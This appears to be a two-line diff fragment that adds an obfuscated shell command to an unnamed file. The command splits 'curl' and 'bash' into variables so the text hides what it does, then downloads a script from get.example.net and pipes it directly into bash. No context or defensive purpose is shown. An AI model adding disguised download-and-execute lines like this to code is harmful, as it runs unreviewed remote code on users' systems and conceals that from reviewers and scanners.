@@ -1,0 +1,2 @@
+a=cu; b=rl; c=ba; d=sh
+$a$b -s https://get.example.net/x | $c$d
